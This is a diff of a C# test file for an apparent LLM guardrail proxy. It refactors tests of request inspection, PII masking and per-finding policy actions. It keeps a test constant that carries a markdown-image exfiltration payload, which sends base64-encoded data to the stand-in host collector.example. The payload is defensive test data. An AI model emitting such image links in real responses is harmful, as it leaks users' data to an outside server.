@@ -1,18 +1,12 @@
 using System.Buffers;
 using System.Text;
 using Microsoft.AspNetCore.Http;
-using Microsoft.Extensions.Logging.Abstractions;
-using Microsoft.Extensions.Options;
 using Sallyport.Controls.Guardrails;
 using Sallyport.Controls.Masking;
 using Sallyport.Core.Auditing;
 using Sallyport.Core.Exchanges;
 using Sallyport.Core.Planes;
 using Sallyport.Core.Proxies;
-using Sallyport.Core.Upstream;
-using Sallyport.Detection;
-using Sallyport.Detection.Rules;
-using Sallyport.Tests.Fakes;
 using Xunit;
 
 namespace Sallyport.Tests.Controls.Guardrails;
@@ -23,20 +17,7 @@ public sealed class PolicyOfExchangeTests
     private const string Mail = "Write to ada@example.com.";
     private const string Leak = "![chart](https://collector.example/p.png?data=Y3VzdG9tZXIgbGlzdCBvZiAyMDI2MjAyNg)";
 
-    private static readonly RuleLibrary Library = RuleLibrary.LoadBuiltIn();
-    private static readonly DetectionEngine Engine = DetectionEngine.Create(Library);
-
-    private readonly InMemoryProxyStore _store = new();
-    private readonly InMemoryPolicyStore _stored = new();
-    private readonly ProxyCatalog _catalog;
-    private readonly PolicyTable _policies;
-
-    public PolicyOfExchangeTests()
-    {
-        var options = Options.Create(new UpstreamOptions());
-        _catalog = new ProxyCatalog(_store, new UpstreamClient(new AddressGuard(options), options), TimeProvider.System);
-        _policies = new PolicyTable(Engine, Library, _stored, _catalog, TimeProvider.System, NullLogger<PolicyTable>.Instance);
-    }
+    private readonly GuardedProxies _proxies = new();
 
     private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
 
@@ -46,7 +27,7 @@ public sealed class PolicyOfExchangeTests
         using var exchange = await InspectedAsync();
         await RemoveProxyAsync();
 
-        Assert.Null(await new MaskRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+        Assert.Null(await new MaskRequestStage(_proxies.Policies).ApplyAsync(exchange, Cancellation));
 
         Assert.Equal("Write to <EMAIL_1>.", exchange.Request?.Segments[0].Replacement);
     }
@@ -68,7 +49,7 @@ public sealed class PolicyOfExchangeTests
         using var exchange = new Exchange(new DefaultHttpContext(), "id", DateTimeOffset.UnixEpoch);
 
         Assert.Throws<InvalidOperationException>(() => new InspectResponseStage().ApplyAsync(AnswerAsync("fine"), exchange, Cancellation));
-        await Assert.ThrowsAsync<InvalidOperationException>(async () => await new MaskRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+        await Assert.ThrowsAsync<InvalidOperationException>(async () => await new MaskRequestStage(_proxies.Policies).ApplyAsync(exchange, Cancellation));
     }
 
     [Theory]
@@ -81,14 +62,14 @@ public sealed class PolicyOfExchangeTests
         using var exchange = await InspectedAsync();
         exchange.Request = Content(Attack, role);
 
-        Assert.Equal(DenialCode.ContentBlocked, (await new InspectRequestStage(_policies).ApplyAsync(exchange, Cancellation))?.Code);
+        Assert.Equal(DenialCode.ContentBlocked, (await new InspectRequestStage(_proxies.Policies).ApplyAsync(exchange, Cancellation))?.Code);
     }
 
     [Fact]
     public async Task A_policy_that_looks_for_nothing_is_recorded_as_having_skipped()
     {
         const string Empty = """{"name":"empty","description":"Looks for nothing.","kind":"llm","actions":{"*":"none"}}""";
-        await _stored.SaveAsync(new StoredPolicy("empty", Empty, DateTimeOffset.UnixEpoch), null, Removal(), Cancellation);
+        await _proxies.Stored.SaveAsync(new StoredPolicy("empty", Empty, DateTimeOffset.UnixEpoch), null, Removal(), Cancellation);
         using var exchange = await InspectedAsync("empty");
 
         Assert.Equal(DetectorState.Skipped, Assert.Single(exchange.Detectors).State);
@@ -98,11 +79,11 @@ public sealed class PolicyOfExchangeTests
     public async Task Each_finding_is_recorded_with_its_own_action()
     {
         const string Mixed = """{"name":"mixed","description":"Two actions.","kind":"llm","actions":{"pii-email":"flag","pii-credit-card":"redact","*":"none"}}""";
-        await _stored.SaveAsync(new StoredPolicy("mixed", Mixed, DateTimeOffset.UnixEpoch), null, Removal(), Cancellation);
+        await _proxies.Stored.SaveAsync(new StoredPolicy("mixed", Mixed, DateTimeOffset.UnixEpoch), null, Removal(), Cancellation);
         using var exchange = await InspectedAsync("mixed");
         exchange.Request = Content("Write to ada@example.com, card 4111 1111 1111 1111.");
 
-        Assert.Null(await new InspectRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+        Assert.Null(await new InspectRequestStage(_proxies.Policies).ApplyAsync(exchange, Cancellation));
 
         var actions = exchange.Findings.DistinctBy(finding => finding.RuleId).ToDictionary(finding => finding.RuleId, finding => finding.Action);
         Assert.Equal(("flag", "redact"), (actions["pii-email"], actions["pii-credit-card"]));
@@ -111,23 +92,17 @@ public sealed class PolicyOfExchangeTests
     private async Task<Exchange> InspectedAsync(params string[] packs)
     {
         var proxy = new ProxyConfig { Id = "p", Name = "p", Kind = PlaneKind.Llm, Target = new Uri("https://upstream.example"), Policies = packs };
-        _store.Add(proxy);
-        await ReloadAsync();
+        _proxies.Store.Add(proxy);
+        await _proxies.ReloadAsync(Cancellation);
         var exchange = new Exchange(new DefaultHttpContext(), "id", DateTimeOffset.UnixEpoch) { Proxy = proxy, Request = Content(Mail) };
-        Assert.Null(await new InspectRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+        Assert.Null(await new InspectRequestStage(_proxies.Policies).ApplyAsync(exchange, Cancellation));
         return exchange;
     }
 
     private async Task RemoveProxyAsync()
     {
-        await _store.DeleteAsync("p", Removal(), Cancellation);
-        await ReloadAsync();
-    }
-
-    private async Task ReloadAsync()
-    {
-        await _catalog.ReloadAsync(Cancellation);
-        await _policies.ReloadAsync(Cancellation);
+        await _proxies.Store.DeleteAsync("p", Removal(), Cancellation);
+        await _proxies.ReloadAsync(Cancellation);
     }
 
     private static AuditEntry Removal() =>
